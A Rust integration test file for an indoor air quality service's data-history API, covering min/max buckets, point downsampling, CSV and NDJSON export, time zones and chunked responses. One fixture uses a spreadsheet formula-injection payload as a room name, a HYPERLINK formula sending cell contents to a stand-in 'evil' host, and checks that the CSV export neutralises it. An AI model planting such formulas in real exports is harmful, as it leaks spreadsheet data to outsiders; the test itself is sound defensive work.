//! History as means with their envelope, as points to draw, and in other formats than JSON.

use crate::harness::{Server, at_millis, client, example, faults, from_now, millis_of, problem};
use crate::place::{Kind, Place};
use crate::query::{DAY, at, each, history, of, path};
use pretty_assertions::assert_eq;
use rstest::rstest;
use serde_json::{Value, json};
use std::collections::HashMap;

const DATA: &str = "/api/iaq/data";
const SECOND_MS: i64 = 1000;
const MINUTE_MS: i64 = 60 * SECOND_MS;
const DAY_MS: i64 = 24 * 60 * MINUTE_MS;

/// The history of the day that [`at`] writes to.
async fn of_day(server: &Server, query: &[(&str, &str)]) -> Vec<Value> {
    history(server, &[&DAY[..], query].concat()).await
}

/// An answer with all its text.
struct Text {
    headers: reqwest::header::HeaderMap,
    body: String,
}

impl Text {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers.get(name).map(|value| value.to_str().unwrap())
    }
}

/// The same history in whatever format an `Accept` header or the query asks for.
async fn text(server: &Server, accept: Option<&str>, query: &[(&str, &str)]) -> Text {
    let mut request = client().get(server.url(&path(DATA, &[&DAY[..], query].concat())));
    if let Some(accept) = accept {
        request = request.header("accept", accept);
    }
    let response = request.send().await.unwrap();
    assert_eq!(response.status(), 200);
    let headers = response.headers().clone();
    let body = response.text().await.unwrap();
    Text { headers, body }
}

/// The records of an NDJSON text.
fn records(lines: &str) -> Vec<Value> {
    assert!(lines.is_empty() || lines.ends_with('\n'));
    let lines = lines.lines();
    lines
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

/// The rows of a CSV text by their column.
fn rows(text: &str) -> Vec<HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows = reader.deserialize();
    rows.map(Result::unwrap).collect()
}

/// Posts readings of CO2 by one sensor, as many as there are times.
async fn post_all(
    server: &Server,
    sensor: &str,
    times_ms: impl Iterator<Item = i64>,
    co2: impl Fn(i64) -> i64,
) -> usize {
    let readings: Vec<_> = times_ms
        .enumerate()
        .map(|(number, millis)| {
            let co2 = co2(i64::try_from(number).unwrap());
            of(sensor, "M", "B", &at_millis(millis), json!({"CO2": co2}))
        })
        .collect();
    for batch in readings.chunks(10_000) {
        server.accept(&batch.into()).await;
    }
    readings.len()
}

#[tokio::test]
async fn a_bucket_with_minmax_has_its_extremes_and_count() {
    let server = Server::start();
    let time = |minute| format!("2025-11-19T10:0{minute}:00Z");
    let reading = |minute, values| of("s1", "M", "B", &time(minute), values);
    server
        .accept(&json!([
            reading(0, json!({"CO2": 600, "Temperature": -1.5})),
            reading(1, json!({"CO2": 1400})),
            reading(2, json!({"CO2": 700, "Temperature": 2.5})),
            reading(3, json!({"battery": 3.1})),
        ]))
        .await;
    for profile in ["iaqverse", "classic"] {
        let single = of_day(&server, &[("profile", profile)]).await;
        let mut scores: Vec<_> = each(&single, "global_score")
            .iter()
            .filter_map(Value::as_i64)
            .collect();
        scores.sort_unstable();
        let query = [("step", "1h"), ("minmax", "true"), ("profile", profile)];
        let found = of_day(&server, &query).await;
        assert_eq!(found.len(), 1);
        let expected = json!({
            "timestamp": "2025-11-19T10:00:00Z", "co2": 900, "co2_min": 600, "co2_max": 1400,
            "temperature": 0.5, "temperature_min": -1.5, "temperature_max": 2.5,
            "global_score_min": scores.first(), "global_score_max": scores.last(), "count": 4,
        });
        for (key, value) in expected.as_object().unwrap() {
            assert_eq!(&found[0][key], value, "{profile} {key}");
        }
        for absent in ["pm25_min", "occupants_max", "extra"] {
            assert_eq!(found[0].get(absent), None, "{absent}");
        }
        let plain = of_day(&server, &[("step", "1h"), ("profile", profile)]).await;
        assert_eq!(plain[0].get("co2_min"), None);
        // It is the score of the means, also beside its extremes.
        assert_eq!(plain[0]["global_score"], found[0]["global_score"]);
    }
}

#[tokio::test]
async fn a_single_reading_is_its_own_extremes() {
    let server = Server::start();
    server.accept(&at("10:00:00", 800)).await;
    let found = of_day(&server, &[("minmax", "true")]).await;
    let score = &found[0]["global_score"];
    let expected = json!({"co2_min": 800, "co2_max": 800, "global_score_min": score,
        "global_score_max": score, "count": 1});
    for (key, value) in expected.as_object().unwrap() {
        assert_eq!(&found[0][key], value, "{key}");
    }
    assert!(score.is_number());
}

#[tokio::test]
async fn what_comes_late_or_is_merged_changes_the_bucket() {
    let server = Server::start();
    let bucket = async || {
        let found = of_day(&server, &[("step", "1h"), ("minmax", "true")]).await;
        let bucket = &found[0];
        ["co2", "co2_min", "co2_max", "pm25", "count"].map(|key| bucket[key].clone())
    };
    server
        .accept(&json!([at("10:00:00", 600), at("10:30:00", 800)]))
        .await;
    assert_eq!(bucket().await, [700, 600, 800, 0, 2].map(nothing_for_0));
    server.accept(&at("10:15:00", 1000)).await;
    assert_eq!(bucket().await, [800, 600, 1000, 0, 3].map(nothing_for_0));
    server.accept(&at("10:15:00", 400)).await;
    assert_eq!(bucket().await, [600, 400, 800, 0, 3].map(nothing_for_0));
    let more = of(
        "bureau1",
        "Maison",
        "Bureau",
        "2025-11-19T10:00:00Z",
        json!({"PM25": 6}),
    );
    server.accept(&more).await;
    assert_eq!(bucket().await, [600, 400, 800, 6, 3].map(nothing_for_0));
}

fn nothing_for_0(number: i64) -> Value {
    if number == 0 {
        Value::Null
    } else {
        number.into()
    }
}

#[rstest]
#[case("10:00:00", "10:30:00", &[600], &[600])]
#[case("10:00:00", "10:30:00.001", &[700], &[800])]
#[case("10:00:00.001", "11:00:00", &[800], &[800])]
#[case("10:30:00", "11:00:00.001", &[800, 1000], &[800, 1000])]
#[tokio::test]
async fn only_readings_from_the_start_and_before_the_end_count_in_a_bucket(
    #[case] start: &str,
    #[case] end: &str,
    #[case] means: &[u32],
    #[case] greatest: &[u32],
) {
    let server = Server::start();
    server
        .accept(&json!([
            at("10:00:00", 600),
            at("10:30:00", 800),
            at("11:00:00", 1000)
        ]))
        .await;
    let (start, end) = (format!("2025-11-19T{start}Z"), format!("2025-11-19T{end}Z"));
    let query = [
        ("start", &*start),
        ("end", &*end),
        ("step", "1h"),
        ("minmax", "1"),
    ];
    let found = history(&server, &query).await;
    assert_eq!(each(&found, "co2"), means);
    assert_eq!(each(&found, "co2_max"), greatest);
}

/// 500 readings of two sensors, each with one spike, of which each has its own form.
async fn two_lines(server: &Server) -> Vec<Value> {
    let start = millis_of(&"2025-11-19T00:00:00Z".into());
    for (sensor, spike) in [("a", 123), ("b", 321)] {
        let times = (0..500).map(|number| start + number * MINUTE_MS);
        post_all(server, sensor, times, |number| {
            if number == spike {
                5000
            } else {
                600 + number * 7 % 50
            }
        })
        .await;
    }
    of_day(server, &[]).await
}

#[tokio::test]
async fn points_are_readings_among_them_ends_and_spikes() {
    let server = Server::start();
    let all = two_lines(&server).await;
    for points in [2, 3, 40, 499] {
        let found = of_day(&server, &[("points", &points.to_string())]).await;
        assert!(found.iter().all(|point| all.contains(point)));
        let times: Vec<_> = found.iter().map(|at| millis_of(&at["timestamp"])).collect();
        assert!(times.is_sorted(), "the sensors are merged by time");
        for sensor in ["a", "b"] {
            let of_sensor = |records: &[Value]| -> Vec<_> {
                let records = records
                    .iter()
                    .filter(|record| record["sensor_id"] == sensor);
                records.cloned().collect()
            };
            let (line, chosen) = (of_sensor(&all), of_sensor(&found));
            assert_eq!(chosen.len(), points, "of {sensor}");
            assert_eq!((chosen.first(), chosen.last()), (line.first(), line.last()));
            let spikes = chosen.iter().filter(|point| point["co2"] == 5000).count();
            assert_eq!(spikes, usize::from(points > 2));
        }
    }
}

#[tokio::test]
async fn who_asks_for_more_points_than_there_are_gets_them_all() {
    let server = Server::start();
    let all = two_lines(&server).await;
    for points in ["500", "501", "10000"] {
        assert_eq!(of_day(&server, &[("points", points)]).await, all);
    }
    let limited = of_day(&server, &[("points", "500"), ("limit", "7")]).await;
    assert_eq!(limited, all[..7]);
    let enveloped = of_day(&server, &[("points", "10"), ("minmax", "true")]).await;
    assert_eq!(each(&enveloped, "count"), [1; 20]);
}

#[tokio::test]
async fn points_with_a_step_are_chosen_from_its_means() {
    let server = Server::start();
    two_lines(&server).await;
    let step = [("step", "5min"), ("minmax", "true")];
    let means = of_day(&server, &step).await;
    assert_eq!(means.len(), 200);
    let found = of_day(&server, &[&step[..], &[("points", "20")]].concat()).await;
    assert_eq!(found.len(), 40);
    assert!(found.iter().all(|point| means.contains(point)));
    let spikes = found.iter().filter(|point| point["co2_max"] == 5000);
    assert_eq!(spikes.count(), 2);
    let few = [("step", "daily"), ("points", "20")];
    assert_eq!(of_day(&server, &few).await.len(), 2);
}

/// Times of the readings below: one a second.
const MANY: i64 = 200_100;

/// So many readings that means are drawn, with a spike and a dip of two quantities, and now and then of
/// so many quantities that their means are read again as they are sent.
async fn many_readings(server: &Server) -> i64 {
    let start = millis_of(&"2025-11-17T00:00:00Z".into());
    let readings: Vec<_> = (0..MANY)
        .map(|number| {
            let values = match number {
                99_999 => json!({"CO2": 30_000, "Temperature": 20}),
                100_000 => json!({"CO2": 10, "Temperature": -10}),
                _ if number % 60 == 30 => json!({
                    "CO2": 600, "PM25": 1, "TVOC": 1, "Temperature": 20, "Humidity": 40, "PM10": 1, "PM1": 1,
                    "NO2": 1, "O3": 1, "HCHO": 1, "CO": 1, "Radon": 1, "Pressure": 1000, "Noise": 40,
                }),
                _ => json!({"CO2": 600 + number % 7}),
            };
            of("s1", "M", "B", &at_millis(start + number * SECOND_MS), values)
        })
        .collect();
    for batch in readings.chunks(10_000) {
        server.accept(&batch.into()).await;
    }
    start
}

#[tokio::test]
async fn in_means_of_too_many_readings_stand_the_readings_they_hide() {
    let server = Server::start();
    let start = many_readings(&server).await;
    let time = |number: i64| Value::from(at_millis(start + number * SECOND_MS));
    // 3 335 means of a minute are enough for 300 points, and for 3 000, and more than are kept.
    for points in [300, 3000] {
        let points_wanted = points.to_string();
        let query = [
            ("start", "2025-11-17T00:00:00Z"),
            ("end", "2025-11-20T00:00:00Z"),
            ("minmax", "true"),
            ("points", &*points_wanted),
        ];
        let found = history(&server, &query).await;
        assert_eq!(found.len(), points);
        let times: Vec<_> = found.iter().map(|at| millis_of(&at["timestamp"])).collect();
        assert!(times.is_sorted_by(|a, b| a < b), "{points}");
        for (number, key, value) in [
            (99_999, "co2", 30_000),
            (100_000, "co2", 10),
            (100_000, "temperature", -10),
            (0, "co2", 600),
            (MANY - 1, "co2", 600 + (MANY - 1) % 7),
        ] {
            let at = found
                .iter()
                .find(|point| point["timestamp"] == time(number));
            let at = at.unwrap_or_else(|| panic!("{points}: {number}"));
            assert_eq!(
                (&at[key], &at["count"]),
                (&value.into(), &1.into()),
                "{points}: {number}"
            );
        }
        assert_eq!(found[0]["timestamp"], time(0));
        assert_eq!(found[points - 1]["timestamp"], time(MANY - 1));
        let means = found.iter().filter(|point| point["count"] != 1);
        let of_minutes = means
            .clone()
            .all(|mean| millis_of(&mean["timestamp"]) % MINUTE_MS == 0);
        assert!(of_minutes && means.count() > points - 40, "{points}");
    }
    // Of readings that are not too many.
    let few = [
        ("start", "2025-11-18T00:00:00Z"),
        ("end", "2025-11-19T00:00:00Z"),
        ("minmax", "true"),
        ("points", "500"),
    ];
    let found = history(&server, &few).await;
    assert_eq!(each(&found, "count"), [1; 500]);
    let greatest = found.iter().filter_map(|point| point["co2"].as_i64());
    assert_eq!(greatest.clone().max(), Some(30_000));
    assert_eq!(greatest.min(), Some(10));
}

#[rstest]
#[case("points", "1", "out_of_range")]
#[case("points", "0", "out_of_range")]
#[case("points", "10001", "out_of_range")]
#[case("points", "-5", "not_a_number")]
#[case("points", "2.5", "not_a_number")]
#[case("points", "many", "not_a_number")]
#[case("minmax", "maybe", "not_a_flag")]
#[case("tz", "Paris", "unknown_zone")]
#[case("tz", "+02:00", "unknown_zone")]
#[case("delimiter", "|", "unknown_delimiter")]
#[case("decimal", "'", "unknown_decimal")]
#[case("decimal", ",", "same_as_delimiter")]
#[case("bom", "yes", "not_a_flag")]
#[case("format", "xml", "unknown_format")]
#[case("format", "CSV", "unknown_format")]
#[tokio::test]
async fn what_cannot_be_given_is_pointed_at(
    #[case] name: &str,
    #[case] value: &str,
    #[case] code: &str,
) {
    let server = Server::start();
    let response = server.get(&path(DATA, &[(name, value)])).await;
    let problem = problem(response, 422, "bad_parameter").await;
    assert_eq!(faults(&problem["errors"]), [(&*format!("/{name}"), code)]);
}

#[tokio::test]
async fn points_of_all_sensors_together_are_bounded() {
    let server = Server::start();
    for sensor in ["a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k"] {
        let time = "2025-11-19T10:00:00Z";
        let reading = of(sensor, "M", sensor, time, json!({"CO2": 600}));
        server.accept(&reading).await;
    }
    let points = ("points", "10000");
    let response = server.get(&path(DATA, &[points, ("format", "csv")])).await;
    let problem = problem(response, 422, "bad_parameter").await;
    assert_eq!(faults(&problem["errors"]), [("/points", "too_many_points")]);
    let fewer = of_day(&server, &[("points", "9090")]).await;
    assert_eq!(fewer.len(), 11);
    let one = of_day(&server, &[points, ("salle", "b")]).await;
    assert_eq!(each(&one, "sensor_id"), ["b"]);
}

/// Readings of rooms whose names would do something in a spreadsheet.
async fn odd_rooms(server: &Server) {
    let reading = |sensor, room, minute, values| {
        of(
            sensor,
            "Atelier, \"Nord\"",
            room,
            &format!("2025-11-19T10:0{minute}:00Z"),
            values,
        )
    };
    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"open\")";
    server
        .accept(&json!([
            reading("s1", formula, 0, json!({"Temperature": -1.5, "b\"t": 3.5})),
            reading("s2", "+1", 1, json!({"CO2": 600, "Occupants": 3})),
            reading("-s3", "@SUM(A1)", 2, json!({"Radon": 20.25})),
            reading("s4", "-2", 3, json!({"CO2": 1400})),
            reading("s5", "2 - 1 = 1", 4, json!({"PM25": 12.5})),
        ]))
        .await;
}

#[tokio::test]
async fn csv_has_every_cell_and_no_formula() {
    let server = Server::start();
    odd_rooms(&server).await;
    let csv = text(&server, None, &[("format", "csv")]).await;
    assert_eq!(csv.header("content-type"), Some("text/csv; charset=utf-8"));
    assert_eq!(
        csv.header("content-disposition"),
        Some("attachment; filename=\"iaqverse.csv\"")
    );
    let header = csv.body.split("\r\n").next().unwrap();
    assert_eq!(
        header,
        "timestamp,sensor_id,enseigne,salle,co2,pm25,tvoc,temperature,humidity,pm10,pm1,no2,o3,hcho,\
        co,radon,pressure,vocindex,noxindex,noise,light,occupants,global_score,global_level,extra"
    );
    assert_eq!(csv.body.matches("\r\n").count(), 6, "{}", csv.body);

    let rows = rows(&csv.body);
    let column = |name: &str| rows.iter().map(|row| row[name].clone()).collect::<Vec<_>>();
    assert_eq!(
        column("salle"),
        [
            "'=HYPERLINK(\"http://evil/?\"&A1,\"open\")",
            "'+1",
            "'@SUM(A1)",
            "'-2",
            "2 - 1 = 1"
        ]
    );
    assert_eq!(column("enseigne"), ["Atelier, \"Nord\""; 5]);
    assert_eq!(column("sensor_id"), ["s1", "s2", "'-s3", "s4", "s5"]);
    assert_eq!(column("temperature"), ["-1.5", "", "", "", ""]);
    assert_eq!(column("co2"), ["", "600", "", "1400", ""]);
    assert_eq!(column("radon"), ["", "", "20.25", "", ""]);
    assert_eq!(column("occupants"), ["", "3", "", "", ""]);
    assert_eq!(column("extra"), [r#"{"b\"t":3.5}"#, "", "", "", ""]);
    let shown = of_day(&server, &[]).await;
    for name in ["global_score", "global_level", "timestamp"] {
        let shown = each(&shown, name);
        let shown = shown.iter().map(|value| match value {
            Value::Null => String::new(),
            Value::String(text) => text.clone(),
            number => number.to_string(),
        });
        assert_eq!(column(name), shown.collect::<Vec<_>>(), "{name}");
    }
}

#[tokio::test]
async fn csv_with_minmax_has_columns_for_it() {
    let server = Server::start();
    server
        .accept(&json!([at("10:00:00", 600), at("10:01:00", 800)]))
        .await;
    let query = [("format", "csv"), ("step", "1h"), ("minmax", "true")];
    let csv = text(&server, None, &query).await;
    let rows = rows(&csv.body);
    assert_eq!(rows.len(), 1);
    for (column, cell) in [
        ("timestamp", "2025-11-19T10:00:00Z"),
        ("co2", "700"),
        ("co2_min", "600"),
        ("co2_max", "800"),
        ("noise_min", ""),
        ("count", "2"),
    ] {
        assert_eq!(rows[0][column], cell, "{column}");
    }
    let single = &of_day(&server, &[]).await;
    assert_eq!(
        rows[0]["global_score_max"],
        single[0]["global_score"].to_string()
    );
    assert_eq!(
        rows[0]["global_score_min"],
        single[1]["global_score"].to_string()
    );
}

#[tokio::test]
async fn every_format_says_the_same_and_keeps_to_the_limit() {
    let server = Server::start();
    odd_rooms(&server).await;
    for query in [
        &[][..],
        &[("limit", "3")],
        &[("step", "1h"), ("limit", "2")],
        &[("points", "2"), ("limit", "1"), ("minmax", "true")],
        &[("sensor_id", "nobody")],
    ] {
        let json = of_day(&server, query).await;
        let lines = text(&server, None, &[query, &[("format", "ndjson")]].concat()).await;
        assert_eq!(lines.header("content-type"), Some("application/x-ndjson"));
        assert_eq!(lines.header("content-disposition"), None);
        // Who was not counted is not there; only the array has a zero for the pages.
        let mut expected = json.clone();
        for record in &mut expected {
            if record["occupants"] == 0 {
                record.as_object_mut().unwrap().remove("occupants");
            }
        }
        assert_eq!(records(&lines.body), expected);
        let csv = text(&server, None, &[query, &[("format", "csv")]].concat()).await;
        let times: Vec<_> = rows(&csv.body)
            .iter()
            .map(|row| Value::from(&*row["timestamp"]))
            .collect();
        assert_eq!(times, each(&json, "timestamp"));
    }
}

#[rstest]
#[case::csv(Some("text/csv"), &[], "text/csv; charset=utf-8")]
#[case::ndjson(Some("application/x-ndjson"), &[], "application/x-ndjson")]
#[case::json(Some("application/json"), &[], "application/json")]
#[case::anything(Some("*/*"), &[], "application/json")]
#[case::none(None, &[], "application/json")]
#[case::preferred(Some("application/json;q=0.5, text/csv"), &[], "text/csv; charset=utf-8")]
#[case::browser(Some("text/html,application/xml;q=0.9,*/*;q=0.8"), &[], "application/json")]
#[case::none_there_is(Some("image/png"), &[], "application/json")]
#[case::asked_for_by_name(Some("text/csv"), &[("format", "json")], "application/json")]
#[case::named_beside_accept(Some("application/json"), &[("format", "csv")], "text/csv; charset=utf-8")]
#[tokio::test]
async fn the_format_follows_the_parameter_then_accept(
    #[case] accept: Option<&str>,
    #[case] query: &[(&str, &str)],
    #[case] expected: &str,
) {
    let server = Server::start();
    server.accept(&at("10:00:00", 600)).await;
    let answer = text(&server, accept, query).await;
    assert_eq!(answer.header("content-type"), Some(expected));
    assert_eq!(answer.header("vary"), Some("Accept"));
    assert!(answer.body.contains("2025-11-19T10:00:00Z"));
}

/// The body of a raw answer cut as it was sent.
fn chunks(answer: &str) -> Vec<&str> {
    let (head, mut rest) = answer.split_once("\r\n\r\n").unwrap();
    assert!(head.to_lowercase().contains("transfer-encoding: chunked"));
    let mut chunks = Vec::new();
    loop {
        let (length, behind) = rest.split_once("\r\n").unwrap();
        let length = usize::from_str_radix(length, 16).unwrap();
        if length == 0 {
            assert_eq!(behind, "\r\n", "the answer is complete");
            return chunks;
        }
        chunks.push(behind.get(..length).unwrap());
        rest = behind.get(length..).unwrap().strip_prefix("\r\n").unwrap();
    }
}

#[tokio::test]
async fn a_long_history_comes_complete_in_pieces_of_bounded_size() {
    let server = Server::start();
    let start = millis_of(&"2025-01-01T00:00:00Z".into());
    // A burst that came late, of which the slow rhythm gives no idea, and long silences.
    let slow = (10..40).map(|day| start + day * DAY_MS);
    post_all(&server, "s1", slow.clone(), |number| number).await;
    let burst = (0..30_000).map(|number| start + number * SECOND_MS);
    post_all(&server, "s1", burst.clone(), |number| number % 5000).await;
    let times: Vec<_> = burst.chain(slow).collect();
    let query = [
        ("start", "2001-01-01T00:00:00Z"),
        ("end", "2027-01-01T00:00:00Z"),
    ];
    for format in ["ndjson", "csv", "json"] {
        let path = path(DATA, &[query[0], query[1], ("format", format)]);
        let request = format!("GET {path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n");
        let answer = server.raw(request.as_bytes()).await;
        let chunks = chunks(&answer);
        let longest = chunks.iter().map(|chunk| chunk.len()).max().unwrap();
        assert!(longest <= 256 * 1024, "{format}: {longest}");
        let body = chunks.concat();
        let found: Vec<_> = match format {
            "csv" => rows(&body)
                .iter()
                .map(|row| millis_of(&row["timestamp"].as_str().into()))
                .collect(),
            "ndjson" => each(&records(&body), "timestamp")
                .iter()
                .map(millis_of)
                .collect(),
            _ => {
                let records: Vec<Value> = serde_json::from_str(&body).unwrap();
                each(&records, "timestamp").iter().map(millis_of).collect()
            }
        };
        assert_eq!(found.len(), times.len(), "{format}");
        assert!(found == times, "{format}: in order, and none twice");
    }
}

#[tokio::test]
async fn a_sensor_with_more_rows_than_fit_is_thinned_or_refused() {
    let server = Server::start();
    let start = millis_of(&"2025-11-19T00:00:00Z".into());
    // Two sensors whose average would do.
    let times = (0..100_500).map(|number| start - DAY_MS + number * SECOND_MS);
    post_all(&server, "busy", times, |number| number % 5000).await;
    let times = (0..60).map(|number| start + number * SECOND_MS);
    post_all(&server, "calm", times, |number| number).await;
    let query = [
        ("start", "2025-11-18T00:00:00Z"),
        ("minmax", "true"),
        ("points", "10000"),
    ];
    // More than is kept of one sensor at once.
    let found = history(&server, &query).await;
    assert_eq!(found.len(), 10_060);
    assert_eq!(each(&found, "count"), vec![1; 10_060]);
    let busy = found.iter().filter(|point| point["sensor_id"] == "busy");
    let co2: Vec<_> = busy.filter_map(|point| point["co2"].as_i64()).collect();
    assert_eq!((co2.first(), co2.last()), (Some(&0), Some(&499)));
    assert_eq!(co2.iter().max(), Some(&4999));

    let too_short = [&query[..], &[("step", "1s")]].concat();
    let response = server.get(&path(DATA, &too_short)).await;
    let problem = problem(response, 422, "bad_parameter").await;
    assert_eq!(faults(&problem["errors"]), [("/step", "step_too_short")]);
    let long_enough = [
        ("start", "2025-11-18T00:00:00Z"),
        ("points", "1000"),
        ("step", "2s"),
    ];
    assert_eq!(history(&server, &long_enough).await.len(), 1030);
}

/// A reading each half hour of three days, so that a day has two for each of its hours.
async fn half_hours(server: &Server, start: &str) {
    let start = millis_of(&start.into());
    let times = (0..144).map(|number| start + number * 30 * MINUTE_MS);
    post_all(server, "s1", times, |_| 600).await;
}

#[rstest]
#[case::short(
    &[("2025-03-28T23:00:00Z", 48), ("2025-03-29T23:00:00Z", 46), ("2025-03-30T22:00:00Z", 48),
        ("2025-03-31T22:00:00Z", 2)],
    &[("2025-03-23T23:00:00Z", 94), ("2025-03-30T22:00:00Z", 50)],
)]
#[case::long(
    &[("2025-10-24T22:00:00Z", 48), ("2025-10-25T22:00:00Z", 50), ("2025-10-26T23:00:00Z", 46)],
    &[("2025-10-19T22:00:00Z", 98), ("2025-10-26T23:00:00Z", 46)],
)]
#[tokio::test]
async fn days_and_weeks_are_local_whatever_clocks_do(
    #[case] days: &[(&str, u64)],
    #[case] weeks: &[(&str, u64)],
    #[values(true, false)] by_setting: bool,
) {
    let zone = if by_setting { "Europe/Paris" } else { "UTC" };
    let server = Server::with(&[("IAQ_TIMEZONE", zone)]);
    half_hours(&server, days[0].0).await;
    let mut query = vec![
        ("start", "2025-01-01T00:00:00Z"),
        ("end", "2026-01-01T00:00:00Z"),
        ("minmax", "true"),
    ];
    if !by_setting {
        query.push(("tz", "europe/paris"));
    }
    for (step, expected) in [
        ("daily", days),
        ("1d", days),
        ("24h", days),
        ("weekly", weeks),
    ] {
        let found = history(&server, &[&query[..], &[("step", step)]].concat()).await;
        let shown: Vec<_> = found
            .iter()
            .map(|day| {
                (
                    day["timestamp"].as_str().unwrap(),
                    day["count"].as_u64().unwrap(),
                )
            })
            .collect();
        assert_eq!(shown, expected, "{step}");
    }
    // What is shorter than a day is a length of time.
    let halves = history(&server, &[&query[..], &[("step", "12h")]].concat()).await;
    let mut starts = halves.iter().map(|half| millis_of(&half["timestamp"]));
    assert!(starts.all(|start| start % (DAY_MS / 2) == 0));
}

#[tokio::test]
async fn csv_comes_as_spreadsheets_of_a_language_expect_it() {
    let server = Server::start();
    odd_rooms(&server).await;
    let query = [
        ("format", "csv"),
        ("delimiter", ";"),
        ("decimal", ","),
        ("bom", "true"),
    ];
    let csv = text(&server, None, &query).await.body;
    let csv = csv.strip_prefix('\u{feff}').unwrap();
    assert!(csv.starts_with("timestamp;sensor_id;enseigne;salle;co2;"));
    let plain = text(&server, None, &[("format", "csv")]).await.body;
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(csv.as_bytes());
    let found: Vec<HashMap<String, String>> = reader.deserialize().map(Result::unwrap).collect();
    let columns = ["temperature", "radon", "pm25"];
    let expected: Vec<_> = rows(&plain)
        .into_iter()
        .map(|mut row| {
            for column in columns {
                let with_comma = row[column].replace('.', ",");
                row.insert(column.to_owned(), with_comma);
            }
            row
        })
        .collect();
    assert_eq!(found, expected);
    assert_eq!(found[0]["temperature"], "-1,5");
    let tabs = text(&server, None, &[("format", "csv"), ("delimiter", "tab")])
        .await
        .body;
    assert!(tabs.starts_with("timestamp\tsensor_id\t"));
    assert!(tabs.contains("\t-1.5\t"));
}

#[rstest]
#[tokio::test]
async fn a_history_of_nothing_is_empty_in_every_step_and_zone(
    #[values("daily", "weekly", "2d", "1h", "1min")] step: &str,
    #[values("UTC", "Europe/Paris", "Asia/Kathmandu")] zone: &str,
) {
    let server = Server::start();
    for posted in [0, 1] {
        for format in ["json", "csv", "ndjson"] {
            let query = [
                ("salle", "Typo"),
                ("step", step),
                ("tz", zone),
                ("format", format),
            ];
            let response = client().get(server.url(&path(DATA, &query)));
            let response = response.send().await.unwrap();
            assert_eq!(response.status(), 200, "{posted} {format}");
            let text = response.text().await.unwrap();
            assert!(text.lines().count() <= 1, "{text}");
        }
        server.accept(&example(&from_now(-60))).await;
    }
}

/// The means are kept, and points are made of all of them.
#[tokio::test]
async fn points_are_of_all_the_time_also_where_readings_are_gone() {
    let place = Place::new(Kind::Sqlite);
    let url = place.new_database().await;
    let server = Server::with(&[("DATABASE_URL", &url)]);
    let times = (0..100).map(|day| from_now(-day * 86_400));
    for time in times {
        server
            .accept(&of("a", "M", "B", &time, json!({"CO2": 700})))
            .await;
    }
    server.terminate();
    assert!(server.ended_well().await);
    let server = Server::with(&[("DATABASE_URL", &url), ("IAQ_RETENTION_DAYS", "30")]);
    let wanted = [("hours", "2400"), ("points", "500")];
    loop {
        let answer = server
            .get_json(&path(DATA, &[("hours", "2400"), ("raw", "true")]))
            .await;
        if answer.as_array().unwrap().len() < 50 {
            break;
        }
        tokio::task::yield_now().await;
    }
    let points = server.get_json(&path(DATA, &wanted)).await;
    assert!(points.as_array().unwrap().len() > 90, "{points}");
}
